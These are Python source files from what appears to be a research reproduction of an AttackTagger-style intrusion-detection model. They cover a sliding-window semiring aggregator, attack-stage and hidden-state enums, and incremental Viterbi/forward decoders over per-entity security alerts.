        score vector and the unnormalised forward log message of the
        window.

        The (max, +)/(logsumexp, +) vec-mat folds reuse one per-window
        ``(K, K)`` scratch buffer instead of allocating temporaries on
        every alert; the arithmetic replays ``maxplus_vecmat``/
        ``logsumexp_vecmat`` bit-for-bit, and the returned vectors are
        fresh arrays that never alias the scratch.
        """
        score = head
        forward = head
        if self._front_indices:
            score, forward = self._fold(score, forward, -1, front=True)
        if self._back_indices:
            score, forward = self._fold(score, forward, -1, front=False)
        return score, forward

    def _fold(
        self, score: np.ndarray, forward: np.ndarray, position: int, *, front: bool
    ) -> Tuple[np.ndarray, np.ndarray]:
        """One scratch-buffered vec-mat fold through both semirings."""
        matrix_max = self._front_max[position] if front else self._back_max[position]
        matrix_lse = self._front_lse[position] if front else self._back_lse[position]
        buffer = self._scratch
        if buffer is None or buffer.shape != matrix_max.shape:
            buffer = self._scratch = np.empty_like(matrix_max)
        # (max, +): max_a score[a] + M[a, b], same ops as maxplus_vecmat.
        np.add(score[:, None], matrix_max, out=buffer)
        score = buffer.max(axis=0)
        # (logsumexp, +): shift/exp/sum/log, same ops as logsumexp_vecmat.
        np.add(forward[:, None], matrix_lse, out=buffer)
        shift = buffer.max(axis=0)
        with np.errstate(invalid="ignore", divide="ignore"):
            np.subtract(buffer, shift[None, :], out=buffer)
            np.exp(buffer, out=buffer)
            summed = buffer.sum(axis=0)
            np.log(summed, out=summed)
            np.add(shift, summed, out=summed)
        return score, summed

    # -- internals ---------------------------------------------------------
    def _flip(self) -> None:
        """Move the back stack into the front as suffix products."""
        for index, matrix in zip(
            reversed(self._back_indices), reversed(self._back_matrices)
        ):
            self._front_indices.append(index)
            self._front_matrices.append(matrix)
        self._back_indices.clear()
        self._back_matrices.clear()
        self._back_max.clear()
        self._back_lse.clear()
        self._recompute_front(0)

    def _recompute_front(self, position: int) -> None:
        """Recompute front suffixes from ``position`` to the stack top."""
        matrices = self._front_matrices
        suffix_max = self._front_max
        suffix_lse = self._front_lse
        del suffix_max[position:]
        del suffix_lse[position:]
        for q in range(position, len(matrices)):
            matrix = matrices[q]
            if q == 0:
                suffix_max.append(matrix)
                suffix_lse.append(matrix)
            else:
                suffix_max.append(maxplus_matmul(matrix, suffix_max[q - 1]))
                suffix_lse.append(logsumexp_matmul(matrix, suffix_lse[q - 1]))

    def _refold_back(self, position: int) -> None:
        """Recompute back prefixes from ``position`` to the newest element."""
        matrices = self._back_matrices
        prefix_max = self._back_max
        prefix_lse = self._back_lse
        del prefix_max[position:]
        del prefix_lse[position:]
        for q in range(position, len(matrices)):
            matrix = matrices[q]
            if q == 0:
                prefix_max.append(matrix)
                prefix_lse.append(matrix)
            else:
                prefix_max.append(maxplus_matmul(prefix_max[q - 1], matrix))
                prefix_lse.append(logsumexp_matmul(prefix_lse[q - 1], matrix))


__all__ = ["SlidingProductWindow"]
