"""Hidden attack states and attack-lifecycle stages.

The preemption model in the paper (an ATTACKTAGGER-style factor graph)
infers a *hidden state* for each monitored entity (a user account or a
host) from the sequence of symbolic alerts attributed to that entity.
The hidden state space follows the original AttackTagger formulation:

* ``BENIGN``     -- the entity behaves like a legitimate user.
* ``SUSPICIOUS`` -- the entity has raised alerts consistent with the
  early phase of past attacks (for instance the download of a source
  file over plain HTTP), but no conclusive evidence exists yet.
* ``MALICIOUS``  -- the accumulated evidence matches a successful
  attack; the testbed's response path (Black Hole Router, operator
  notification) is triggered at the first transition into this state.

Separately, every alert is tagged with the *attack stage* it typically
belongs to.  Stages follow the lifecycle the paper describes for HPC
intrusions: reconnaissance, gaining a foothold, privilege escalation /
installation, persistence, lateral movement, command-and-control, and
finally actions-on-objective (exfiltration, encryption, trace wiping).
Stages are attributes of the *vocabulary*; hidden states are what the
model infers.
"""

from __future__ import annotations

import enum
from typing import Iterable


class HiddenState(enum.IntEnum):
    """Hidden per-entity state inferred by the preemption model."""

    BENIGN = 0
    SUSPICIOUS = 1
    MALICIOUS = 2

    @property
    def is_detection(self) -> bool:
        """Whether reaching this state constitutes a detection decision."""
        return self is HiddenState.MALICIOUS

    @classmethod
    def domain(cls) -> tuple["HiddenState", ...]:
        """The full, ordered state domain used by inference routines."""
        return (cls.BENIGN, cls.SUSPICIOUS, cls.MALICIOUS)


#: Number of hidden states; used to size factor tables.
NUM_STATES: int = len(HiddenState.domain())


class AttackStage(enum.IntEnum):
    """Lifecycle stage an alert type is typically associated with.

    The ordering is meaningful: later stages indicate a more mature
    attack.  The paper's Insight 2 observes that alerts from stages at
    or beyond :attr:`ACTIONS` usually arrive after irreversible damage,
    which is why critical alerts cannot be used for preemption.
    """

    BACKGROUND = 0      # normal operational activity
    RECONNAISSANCE = 1  # scans, probes, service-version queries
    FOOTHOLD = 2        # initial access: logins, exploits, default creds
    ESCALATION = 3      # privilege escalation, installation of tooling
    PERSISTENCE = 4     # backdoors, added keys, cron implants
    LATERAL = 5         # movement to other hosts
    COMMAND_CONTROL = 6 # beaconing to external C2 infrastructure
    ACTIONS = 7         # exfiltration, encryption, trace wiping

    @property
    def is_damage(self) -> bool:
        """Stages at which system integrity is already compromised."""
        return self >= AttackStage.ACTIONS

    @property
    def is_preemptable(self) -> bool:
        """Stages at which a preemption decision is still useful.

        Per the paper, an attack can only be preempted while the
        attacker is still working toward damage: reconnaissance through
        command-and-control.  Background activity needs no preemption
        and actions-on-objective means damage already occurred.
        """
        return AttackStage.RECONNAISSANCE <= self < AttackStage.ACTIONS


def most_severe_stage(stages: Iterable[AttackStage]) -> AttackStage:
    """Return the latest (most mature) stage among ``stages``.

    Used when summarising an incident: the furthest stage reached
    determines whether the attack "caused damage" in the sense of the
    paper's preemption semantics.
    """
    stages = list(stages)
    if not stages:
        return AttackStage.BACKGROUND
    return max(stages)


# Prior association between lifecycle stages and hidden states.  These
# are *not* model parameters (those are learned in ``core.training``);
# they seed the observation factors with a sensible default when an
# alert type was never seen in the training corpus.
STAGE_STATE_PRIOR: dict[AttackStage, HiddenState] = {
    AttackStage.BACKGROUND: HiddenState.BENIGN,
    AttackStage.RECONNAISSANCE: HiddenState.SUSPICIOUS,
    AttackStage.FOOTHOLD: HiddenState.SUSPICIOUS,
    AttackStage.ESCALATION: HiddenState.MALICIOUS,
    AttackStage.PERSISTENCE: HiddenState.MALICIOUS,
    AttackStage.LATERAL: HiddenState.MALICIOUS,
    AttackStage.COMMAND_CONTROL: HiddenState.MALICIOUS,
    AttackStage.ACTIONS: HiddenState.MALICIOUS,
}


__all__ = [
    "HiddenState",
    "AttackStage",
    "NUM_STATES",
    "STAGE_STATE_PRIOR",
    "most_severe_stage",
]
