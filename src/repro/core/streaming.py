"""Incremental streaming inference for the per-entity chain model.

The seed implementation of :class:`repro.core.attack_tagger.AttackTagger`
re-ran the *entire* chain decode -- Viterbi, forward-backward, and every
pattern-prefix rescan -- from scratch on every alert, so the cost of
consuming one alert grew linearly with the entity's history and the cost
of a whole stream grew quadratically.  This module holds the per-entity
state that makes each new alert cheap:

* :class:`PatternCursor` -- per-pattern two-pointer match state.  The
  greedy subsequence match of a pattern prefix is *incremental*:
  appending an alert can only advance the cursor by one symbol, never
  change earlier greedy choices, so ``matched_prefix_length`` and the
  position at which the matched prefix ends are maintained in O(1) per
  alert instead of O(T * L) rescans.
* :class:`StreamingDecoder` -- checkpointed forward recursions.  For
  every step it stores the running Viterbi score vector, the
  backpointer row, and the normalised forward log-alpha (the sum-product
  forward message).  Appending an alert extends all three by one O(K^2)
  step.  The posterior over the entity's *current* state is exactly the
  normalised forward message (the backward message at the final step is
  identically zero), so no backward pass is needed on the hot path.

**Pattern-bonus relocation.**  Pattern evidence is folded into the
malicious-state unary potential of the step where the matched prefix
currently *ends* (see ``AttackTagger._build_unary``).  When a pattern
advances, its bonus moves from the old end step to the new final step --
an edit to a *past* unary row.  The decoder tracks the earliest
invalidated index per update and recomputes the forward recursions only
from there; in practice the old end step is within the last few alerts,
so an update touches one or two steps.  Only window eviction (the
``max_window`` slide) discards the prefix the recursions are anchored
on, and triggers a full O(W * K^2) rebuild.

Per-alert complexity (T = history length, K = states, P = patterns,
L = pattern length, W = max window):

===============================  =====================  ==============
quantity                         seed (re-decode)        streaming
===============================  =====================  ==============
pattern matching                 O(P * T * L)           O(advances)
Viterbi extension                O(T * K^2)             O(K^2)
posterior of current state       O(T * K^2)             O(K^2)
bonus relocation                 (included above)       O(d * K^2) [1]_
window eviction                  O(W * K^2)             O(W * K^2)
full MAP trajectory              O(T * K^2)             O(T) backtrack
===============================  =====================  ==============

.. [1] ``d`` = distance from the earliest invalidated step to the end.

Every recursion reproduces the exact arithmetic of
:func:`repro.core.factor_graph.chain_map_decode` and
:func:`repro.core.factor_graph.chain_marginals`, so decodes are
bit-identical to the seed path (asserted by the equivalence test
suite).  The next scaling step -- sharding entities across processes --
only needs to move whole :class:`StreamingDecoder` instances, since all
state is per-entity.
"""

from __future__ import annotations

import dataclasses
from typing import Dict, List, Optional, Sequence, Set

import numpy as np

from .factor_graph import _logsumexp, _normalize_log, chain_marginals
from .factors import FactorParameters
from .states import HiddenState, NUM_STATES

_MALICIOUS = int(HiddenState.MALICIOUS)
_INITIAL_CAPACITY = 16


@dataclasses.dataclass(frozen=True)
class WeightedPattern:
    """A catalogue pattern with its resolved (positive) factor weight."""

    name: str
    names: tuple[str, ...]
    weight: float


class PatternCursor:
    """Two-pointer greedy match state of one pattern against a stream.

    ``matched`` is the length of the longest pattern prefix contained in
    the alerts seen so far (equal to
    :func:`repro.core.sequences.matched_prefix_length`), ``end_index``
    the stream index where that greedy match ends.
    """

    __slots__ = ("matched", "end_index")

    def __init__(self) -> None:
        self.matched = 0
        self.end_index = -1

    def reset(self) -> None:
        self.matched = 0
        self.end_index = -1


class StreamingDecoder:
    """Incremental chain decoder for one monitored entity.

    Parameters
    ----------
    parameters:
        The factor parameters (observation/transition/initial tables and
        the pattern-bonus schedule).
    patterns:
        Active patterns with their resolved positive weights, in
        catalogue order (the order bonuses are summed in, to keep
        floating-point results identical to the batch rebuild).
    """

    def __init__(
        self,
        parameters: FactorParameters,
        patterns: Sequence[WeightedPattern] = (),
    ) -> None:
        self.parameters = parameters
        self.patterns: tuple[WeightedPattern, ...] = tuple(patterns)
        self._pairwise = parameters.transition_log
        self._arange_k = np.arange(NUM_STATES)
        self._cursors: List[PatternCursor] = [PatternCursor() for _ in self.patterns]
        # symbol -> indices of patterns whose next expected symbol is it
        self._waiting: Dict[str, List[int]] = {}
        self._complete: Set[int] = set()
        # step index -> {pattern index -> bonus} for bonuses landing there
        self._bonus_at: Dict[int, Dict[int, float]] = {}
        self._length = 0
        capacity = _INITIAL_CAPACITY
        self._base = np.zeros((capacity, NUM_STATES))
        self._unary = np.zeros((capacity, NUM_STATES))
        self._score = np.zeros((capacity, NUM_STATES))
        self._alpha = np.zeros((capacity, NUM_STATES))
        self._backpointers = np.zeros((capacity, NUM_STATES), dtype=np.int64)
        self._names: List[str] = []
        self._seed_waiting()

    # -- bookkeeping -------------------------------------------------------
    def _seed_waiting(self) -> None:
        self._waiting.clear()
        for index, pattern in enumerate(self.patterns):
            if pattern.names:
                self._waiting.setdefault(pattern.names[0], []).append(index)

    def _grow(self, needed: int) -> None:
        capacity = self._base.shape[0]
        if needed <= capacity:
            return
        while capacity < needed:
            capacity *= 2
        for attr in ("_base", "_unary", "_score", "_alpha", "_backpointers"):
            old = getattr(self, attr)
            fresh = np.zeros((capacity,) + old.shape[1:], dtype=old.dtype)
            fresh[: old.shape[0]] = old
            setattr(self, attr, fresh)

    @property
    def length(self) -> int:
        """Number of alerts currently folded into the chain."""
        return self._length

    @property
    def names(self) -> tuple[str, ...]:
        """Alert names currently folded into the chain."""
        return tuple(self._names)

    def reset(self) -> None:
        """Forget the whole stream (capacity is retained)."""
        self._length = 0
        self._names.clear()
        self._bonus_at.clear()
        self._complete.clear()
        for cursor in self._cursors:
            cursor.reset()
        self._seed_waiting()

    def rebuild(self, names: Sequence[str]) -> None:
        """Re-anchor on a new window (used after ``max_window`` eviction)."""
        self.reset()
        for name in names:
            self.append(name)

    # -- incremental update -------------------------------------------------
    def append(self, name: str) -> None:
        """Fold one alert into the chain: O(K^2 + pattern advances)."""
        t = self._length
        self._grow(t + 1)
        parameters = self.parameters
        base_row = parameters.observation_row(name).copy()
        if t == 0:
            base_row += parameters.initial_log
        self._base[t] = base_row
        self._names.append(name)
        invalid_from = t
        dirty = {t}
        advancing = self._waiting.pop(name, None)
        if advancing:
            for index in advancing:
                cursor = self._cursors[index]
                pattern = self.patterns[index]
                if cursor.matched > 0:
                    old = self._bonus_at.get(cursor.end_index)
                    if old is not None and index in old:
                        del old[index]
                        if not old:
                            del self._bonus_at[cursor.end_index]
                        dirty.add(cursor.end_index)
                        if cursor.end_index < invalid_from:
                            invalid_from = cursor.end_index
                cursor.matched += 1
                cursor.end_index = t
                bonus = parameters.pattern_bonus(
                    cursor.matched, len(pattern.names), pattern.weight
                )
                if bonus > 0.0:
                    self._bonus_at.setdefault(t, {})[index] = bonus
                if cursor.matched < len(pattern.names):
                    self._waiting.setdefault(pattern.names[cursor.matched], []).append(index)
                else:
                    self._complete.add(index)
        self._length = t + 1
        for step in dirty:
            self._refresh_unary(step)
        self._recompute_forward(invalid_from)

    def _refresh_unary(self, step: int) -> None:
        """Rebuild one effective unary row: base + bonuses in pattern order."""
        row = self._base[step].copy()
        bonuses = self._bonus_at.get(step)
        if bonuses:
            for index in sorted(bonuses):
                row[_MALICIOUS] += bonuses[index]
        self._unary[step] = row

    def _recompute_forward(self, start: int) -> None:
        """Extend/repair the forward recursions from ``start`` to the end.

        Each step reproduces exactly one loop iteration of
        ``chain_map_decode`` (Viterbi score + backpointers) and
        ``chain_marginals`` (normalised forward message).
        """
        unary = self._unary
        score = self._score
        alpha = self._alpha
        backpointers = self._backpointers
        pairwise = self._pairwise
        arange_k = self._arange_k
        for t in range(start, self._length):
            if t == 0:
                score[0] = unary[0]
                backpointers[0] = 0
                alpha[0] = _normalize_log(unary[0])
                continue
            candidate = score[t - 1][:, None] + pairwise
            bp = np.argmax(candidate, axis=0)
            backpointers[t] = bp
            score[t] = candidate[bp, arange_k] + unary[t]
            prev = alpha[t - 1][:, None] + pairwise
            alpha[t] = _normalize_log(_logsumexp(prev, axis=0) + unary[t])

    # -- read-out ------------------------------------------------------------
    def final_marginal(self) -> np.ndarray:
        """Posterior over the current state (normalised forward message).

        Matches ``chain_marginals(unary, pairwise)[-1]`` bit-for-bit.
        """
        if self._length == 0:
            raise ValueError("decoder is empty")
        last = self._alpha[self._length - 1]
        return np.exp(last - _logsumexp(last))

    def final_malicious_probability(self) -> float:
        """Posterior probability that the entity is currently malicious."""
        return float(self.final_marginal()[_MALICIOUS])

    def final_state(self) -> int:
        """Final state of the MAP trajectory (``argmax`` of the Viterbi score)."""
        if self._length == 0:
            raise ValueError("decoder is empty")
        return int(np.argmax(self._score[self._length - 1]))

    def map_path(self) -> np.ndarray:
        """Full MAP state trajectory via backpointer backtrack (O(T))."""
        steps = self._length
        path = np.zeros(steps, dtype=np.int64)
        if steps == 0:
            return path
        path[-1] = int(np.argmax(self._score[steps - 1]))
        backpointers = self._backpointers
        for t in range(steps - 1, 0, -1):
            path[t - 1] = backpointers[t, path[t]]
        return path

    def matched_pattern_names(self) -> list[str]:
        """Names of fully matched patterns, in catalogue order."""
        return [self.patterns[index].name for index in sorted(self._complete)]

    def matched_prefix_lengths(self) -> list[int]:
        """Current matched-prefix length of every tracked pattern."""
        return [cursor.matched for cursor in self._cursors]

    def unary_table(self) -> np.ndarray:
        """Copy of the effective per-step unary log potentials (T, K)."""
        return self._unary[: self._length].copy()

    def marginals(self) -> np.ndarray:
        """Full per-step posteriors (runs the O(T * K^2) backward pass)."""
        if self._length == 0:
            return np.zeros((0, NUM_STATES))
        return chain_marginals(self._unary[: self._length], self._pairwise)


__all__ = ["PatternCursor", "StreamingDecoder", "WeightedPattern"]
