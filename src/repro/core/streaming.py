"""Incremental streaming inference for the per-entity chain model.

The seed implementation of :class:`repro.core.attack_tagger.AttackTagger`
re-ran the *entire* chain decode -- Viterbi, forward-backward, and every
pattern-prefix rescan -- from scratch on every alert, so the cost of
consuming one alert grew linearly with the entity's history and the cost
of a whole stream grew quadratically.  This module holds the per-entity
state that makes each new alert cheap:

* :class:`PatternCursor` -- per-pattern greedy match state.  The greedy
  subsequence match of a pattern prefix is *incremental*: appending an
  alert can only advance the cursor by one symbol, never change earlier
  greedy choices, so ``matched`` and the matched step positions are
  maintained in O(1) per alert instead of O(T * L) rescans.
* :class:`StreamingDecoder` -- checkpointed forward recursions plus an
  amortised sliding-window mode.  While the entity's window is still
  filling, every step stores the running Viterbi score vector, the
  backpointer row, and the normalised forward log-alpha; appending an
  alert extends all three by one O(K^2) step, exactly as in the seed
  recursion.

**Window eviction (the ``max_window`` slide).**  Once an entity
saturates its window, every new alert evicts the oldest step.  The
rebuild path (kept as ``AttackTagger(engine="rebuild")``) re-anchors the
recursions with a full O(W * K^2) re-decode per alert -- the seed
constant all over again, and the production steady state for long-lived
entities.  :meth:`StreamingDecoder.evict_front` instead switches the
decoder into *windowed* mode: per-step transition⊗unary matrices are
aggregated by a two-stack :class:`repro.core.sliding_window
.SlidingProductWindow` under the ``(max, +)`` and ``(logsumexp, +)``
semirings, so appending costs O(K^3) (two small matrix products),
evicting the front costs O(K^3) *amortised*, and the firing decision
reads the window's Viterbi score vector and forward message in O(K^2).

The aggregate is floating-point *reassociated* relative to the
sequential recursion, so windowed mode never lets it near an emitted
number: :meth:`may_fire` uses the aggregate only as a guard-banded
pre-filter (reassociation error is bounded far below the guard), and
any alert that might fire -- plus every explicit read-out
(:meth:`final_marginal`, :meth:`map_path`, ...) -- is materialised by
the exact sequential decode of the bounded window, i.e. by the very
same float operations as ``engine="naive"``.  Emitted detections
(state, confidence, trajectory) are therefore bit-identical to the seed
path, which the equivalence suite asserts with exact comparisons.

**Pattern-cursor state under eviction.**  Pattern evidence is folded
into the malicious-state unary potential of the step where the matched
prefix currently *ends*.  Cursors record the step positions of their
greedy match; evicting a step rescans only the patterns whose greedy
match touched it (the greedy leftmost match of every other pattern is
unchanged by dropping steps before its first matched position).  A
bonus relocation dirties a step already inside the two-stack structure;
the affected aggregates are patched partially in place (back prefixes
or front suffixes from the edited position, typically O(K^3) because
greedy matches cluster near the window boundaries).  The exact
O(W * K^3) re-aggregation remains as a defensive fallback (the
structure always holds every queued step, so it should be
unreachable); the equivalence suite exercises patches on both sides of
the two-stack boundary.

Per-alert complexity (T = history length, K = states, P = patterns,
L = pattern length, W = max window):

===============================  ===================  ================  ==================
quantity                         seed (re-decode)     streaming (PR 1)  amortised window
===============================  ===================  ================  ==================
pattern matching                 O(P * T * L)         O(advances)       O(advances) [2]_
Viterbi extension                O(T * K^2)           O(K^2)            O(K^3)
posterior of current state       O(T * K^2)           O(K^2)            O(K^2)
bonus relocation                 (included above)     O(d * K^2) [1]_   O(|back| * K^3)
window eviction                  O(W * K^2)           O(W * K^2)        O(K^3) amortised
full MAP trajectory              O(T * K^2)           O(T) backtrack    O(W * K^2) [3]_
===============================  ===================  ================  ==================

.. [1] ``d`` = distance from the earliest invalidated step to the end.
.. [2] plus an O(W * L) rescan per pattern whose match touched the
       evicted step.
.. [3] only paid when a detection actually fires (at most once per
       entity) or an explicit read-out is requested; cached per decoder
       version.

Every emitted number reproduces the exact arithmetic of
:func:`repro.core.factor_graph.chain_map_decode` and
:func:`repro.core.factor_graph.chain_marginals`, so decodes are
bit-identical to the seed path (asserted by the equivalence test
suites in ``tests/test_streaming.py`` and
``tests/test_sliding_window.py``).
"""

from __future__ import annotations

import dataclasses
from typing import Dict, List, Optional, Sequence, Set, Tuple

import numpy as np

from .factor_graph import (
    _logsumexp,
    _normalize_log,
    chain_map_decode,
    chain_marginals,
    chain_step_matrix,
)
from .factors import FactorParameters
from .sliding_window import SlidingProductWindow
from .states import HiddenState, NUM_STATES

_MALICIOUS = int(HiddenState.MALICIOUS)
_INITIAL_CAPACITY = 16

#: Floor of the guard band (log-space score gap / probability margin)
#: inside which the reassociated window aggregate is not trusted to
#: decide anything and the exact sequential decode is consulted
#: instead.  The reassociated-vs-sequential error of a W-step semiring
#: product chain is bounded by ~W * K * eps * |accumulated log
#: magnitude| (the magnitude itself absorbs the second factor of W and
#: any outsized pattern weights), so :meth:`StreamingDecoder.may_fire`
#: widens the guard with the measured aggregate magnitude -- extreme
#: windows or weights merely degrade to "always consult the exact
#: decode", never to a silently dropped detection.
_DECISION_GUARD = 1e-6
_GUARD_SLACK = 64.0 * np.finfo(np.float64).eps


@dataclasses.dataclass(frozen=True)
class WeightedPattern:
    """A catalogue pattern with its resolved (positive) factor weight."""

    name: str
    names: tuple[str, ...]
    weight: float


class PatternCursor:
    """Greedy match state of one pattern against a (windowed) stream.

    ``matched`` is the length of the longest pattern prefix contained in
    the window (equal to
    :func:`repro.core.sequences.matched_prefix_length` over the window's
    names), ``positions`` the step indices of the greedy leftmost match,
    and ``end_index`` the step where that match ends
    (``positions[-1]``, or ``-1`` while unmatched).  The positions are
    what makes window eviction cheap: a cursor needs a rescan only when
    its *first* matched step is evicted.
    """

    __slots__ = ("matched", "end_index", "positions")

    def __init__(self) -> None:
        self.matched = 0
        self.end_index = -1
        self.positions: List[int] = []

    def reset(self) -> None:
        self.matched = 0
        self.end_index = -1
        self.positions.clear()


class StreamingDecoder:
    """Incremental chain decoder for one monitored entity.

    Parameters
    ----------
    parameters:
        The factor parameters (observation/transition/initial tables and
        the pattern-bonus schedule).
    patterns:
        Active patterns with their resolved positive weights, in
        catalogue order (the order bonuses are summed in, to keep
        floating-point results identical to the batch rebuild).
    """

    def __init__(
        self,
        parameters: FactorParameters,
        patterns: Sequence[WeightedPattern] = (),
    ) -> None:
        self.parameters = parameters
        self.patterns: tuple[WeightedPattern, ...] = tuple(patterns)
        self._pairwise = parameters.transition_log
        self._arange_k = np.arange(NUM_STATES)
        self._cursors: List[PatternCursor] = [PatternCursor() for _ in self.patterns]
        # symbol -> indices of patterns whose next expected symbol is it
        self._waiting: Dict[str, List[int]] = {}
        self._complete: Set[int] = set()
        # step index -> {pattern index -> bonus} for bonuses landing
        # there, kept in ascending pattern-index order (the catalogue
        # summation order the naive rebuild uses).
        self._bonus_at: Dict[int, Dict[int, float]] = {}
        self._length = 0
        self._start = 0
        self._windowed = False
        self._window: Optional[SlidingProductWindow] = None
        self._version = 0
        self._decode_cache: Optional[Tuple[int, np.ndarray, np.ndarray]] = None
        capacity = _INITIAL_CAPACITY
        self._base = np.zeros((capacity, NUM_STATES))
        self._unary = np.zeros((capacity, NUM_STATES))
        self._score = np.zeros((capacity, NUM_STATES))
        self._alpha = np.zeros((capacity, NUM_STATES))
        self._backpointers = np.zeros((capacity, NUM_STATES), dtype=np.int64)
        self._names: List[str] = []
        self._seed_waiting()

    # -- bookkeeping -------------------------------------------------------
    def _seed_waiting(self) -> None:
        self._waiting.clear()
        for index, pattern in enumerate(self.patterns):
            if pattern.names:
                self._waiting.setdefault(pattern.names[0], []).append(index)

    def _rebuild_waiting(self) -> None:
        """Recompute the waiting lists from the cursors (after rescans)."""
        self._waiting.clear()
        for index, pattern in enumerate(self.patterns):
            matched = self._cursors[index].matched
            if matched < len(pattern.names):
                self._waiting.setdefault(pattern.names[matched], []).append(index)

    def _grow(self, needed: int) -> None:
        capacity = self._base.shape[0]
        if needed <= capacity:
            return
        while capacity < needed:
            capacity *= 2
        for attr in ("_base", "_unary", "_score", "_alpha", "_backpointers"):
            old = getattr(self, attr)
            fresh = np.zeros((capacity,) + old.shape[1:], dtype=old.dtype)
            fresh[: old.shape[0]] = old
            setattr(self, attr, fresh)

    def _compact(self) -> None:
        """Rebase the buffers so the window starts at row 0 again.

        In windowed mode the start index only ever moves forward, so
        without compaction the buffers (and every stored step index)
        would grow with the *stream*, not the window.  Shifting the live
        rows down costs O(W) and runs at most once per ``capacity / 2``
        evictions, keeping memory O(W) and the shift O(1) amortised.
        """
        shift = self._start
        if shift == 0:
            return
        width = self._length - shift
        for attr in ("_base", "_unary"):
            array = getattr(self, attr)
            array[:width] = array[shift : self._length].copy()
        del self._names[:shift]
        self._bonus_at = {step - shift: bucket for step, bucket in self._bonus_at.items()}
        for cursor in self._cursors:
            if cursor.matched:
                cursor.positions = [p - shift for p in cursor.positions]
                cursor.end_index -= shift
        if self._window is not None:
            self._window.shift(shift)
        self._start = 0
        self._length = width

    @property
    def length(self) -> int:
        """Number of alerts currently folded into the (windowed) chain."""
        return self._length - self._start

    @property
    def names(self) -> tuple[str, ...]:
        """Alert names currently folded into the chain."""
        return tuple(self._names[self._start : self._length])

    @property
    def windowed(self) -> bool:
        """Whether the decoder has evicted at least once (amortised mode)."""
        return self._windowed

    def reset(self) -> None:
        """Forget the whole stream (capacity is retained)."""
        self._length = 0
        self._start = 0
        self._windowed = False
        self._window = None
        self._version += 1
        self._decode_cache = None
        self._names.clear()
        self._bonus_at.clear()
        self._complete.clear()
        for cursor in self._cursors:
            cursor.reset()
        self._seed_waiting()

    def rebuild(self, names: Sequence[str]) -> None:
        """Re-anchor on a new window with a full sequential re-decode.

        This is the seed-constant O(W * K^2) slide path, kept as the
        regression reference for the amortised :meth:`evict_front`.
        """
        self.reset()
        for name in names:
            self.append(name)

    # -- incremental update -------------------------------------------------
    def append(self, name: str) -> None:
        """Fold one alert into the chain: O(K^2 + pattern advances)."""
        step, dirty, invalid_from = self.append_plan(name)
        self._complete_append(step, dirty, invalid_from)

    def append_plan(self, name: str) -> Tuple[int, Set[int], int]:
        """Bookkeeping half of :meth:`append`: everything except the numerics.

        Grows/compacts the buffers, stores the base observation row,
        advances pattern cursors (relocating bonuses), and bumps the
        version — but leaves the dirty unary rows and the forward/window
        aggregates stale.  Returns ``(step, dirty, invalid_from)`` for
        :meth:`_complete_append`, which the batched decode kernel
        replaces with stacked cross-entity numerics; ``append`` is
        exactly ``append_plan`` + ``_complete_append``.
        """
        t = self._length
        if t == self._base.shape[0] and self._start >= max(1, t // 2):
            self._compact()
            t = self._length
        self._grow(t + 1)
        parameters = self.parameters
        self._base[t] = parameters.observation_row(name)
        self._names.append(name)
        invalid_from = t
        dirty = {t}
        advancing = self._waiting.pop(name, None)
        if advancing:
            # Ascending pattern index keeps same-step bonus insertion in
            # catalogue order (see _refresh_unary).
            advancing.sort()
            for index in advancing:
                cursor = self._cursors[index]
                pattern = self.patterns[index]
                if cursor.matched > 0:
                    old = self._bonus_at.get(cursor.end_index)
                    if old is not None and index in old:
                        del old[index]
                        if not old:
                            del self._bonus_at[cursor.end_index]
                        dirty.add(cursor.end_index)
                        if cursor.end_index < invalid_from:
                            invalid_from = cursor.end_index
                cursor.matched += 1
                cursor.end_index = t
                cursor.positions.append(t)
                bonus = parameters.pattern_bonus(
                    cursor.matched, len(pattern.names), pattern.weight
                )
                if bonus > 0.0:
                    self._insert_bonus(t, index, bonus)
                if cursor.matched < len(pattern.names):
                    self._waiting.setdefault(pattern.names[cursor.matched], []).append(index)
                else:
                    self._complete.add(index)
        self._length = t + 1
        self._version += 1
        self._decode_cache = None
        return t, dirty, invalid_from

    def _complete_append(self, step: int, dirty: Set[int], invalid_from: int) -> None:
        """Numeric half of :meth:`append`: refresh unaries, extend aggregates."""
        for touched in dirty:
            self._refresh_unary(touched)
        if not self._windowed:
            self._recompute_forward(invalid_from)
        else:
            self._apply_dirty_to_window(dirty, appended=step)

    def evict_front(self) -> None:
        """Slide the window start forward by one step: O(K^3) amortised.

        The first eviction switches the decoder into windowed mode and
        builds the two-stack aggregates over the remaining window; every
        later eviction pops the front stack (amortised two semiring
        products) and rescans only the patterns whose greedy match
        touched the evicted step.
        """
        transition, dirty = self.evict_plan()
        # The new head row gains the initial-state prior.
        self._refresh_unary(self._start)
        for step in dirty:
            self._refresh_unary(step)
        if transition:
            self._rebuild_window_aggregates()
        else:
            self._apply_dirty_to_window(dirty)

    def evict_plan(self) -> Tuple[bool, Set[int]]:
        """Bookkeeping half of :meth:`evict_front`.

        Advances the window start, pops the front stack (or creates the
        window on the filling→windowed transition), rescans the cursors
        that touched the evicted step, and bumps the version — leaving
        the new head row and any relocated-bonus rows stale.  Returns
        ``(transition, dirty)``; the caller must refresh the head unary
        (and each dirty step) and then rebuild (``transition``) or patch
        the aggregates.  Refreshing the head *after* the rescan is
        equivalent to the interleaved order ``evict_front`` historically
        used: ``_refresh_unary`` is a pure function of the base/bonus
        state, and every head-bonus change the rescan makes lands in
        ``dirty``.
        """
        if self.length < 2:
            raise ValueError("cannot evict from a window of fewer than 2 steps")
        evicted = self._start
        transition = not self._windowed
        self._windowed = True
        self._start = evicted + 1
        if transition:
            self._window = SlidingProductWindow()
        else:
            self._window.pop_front()
        dirty = self._evict_cursor_state(evicted)
        self._version += 1
        self._decode_cache = None
        return transition, dirty

    def _evict_cursor_state(self, evicted: int) -> Set[int]:
        """Rescan patterns whose greedy match used the evicted step.

        Dropping steps *before* a pattern's first matched position
        cannot change its greedy leftmost match, so only cursors whose
        ``positions[0]`` is the evicted step are rescanned over the
        bounded window.  Returns the set of surviving steps whose unary
        row changed (bonus removed/relocated).
        """
        dirty: Set[int] = set()
        rescan = [
            index
            for index, cursor in enumerate(self._cursors)
            if cursor.matched > 0 and cursor.positions[0] <= evicted
        ]
        if not rescan:
            self._bonus_at.pop(evicted, None)
            return dirty
        for index in rescan:
            cursor = self._cursors[index]
            pattern = self.patterns[index]
            bucket = self._bonus_at.get(cursor.end_index)
            if bucket is not None and index in bucket:
                del bucket[index]
                if not bucket:
                    del self._bonus_at[cursor.end_index]
                if cursor.end_index > evicted:
                    dirty.add(cursor.end_index)
            self._complete.discard(index)
            matched, positions = self._greedy_match(pattern.names)
            cursor.matched = matched
            cursor.positions = positions
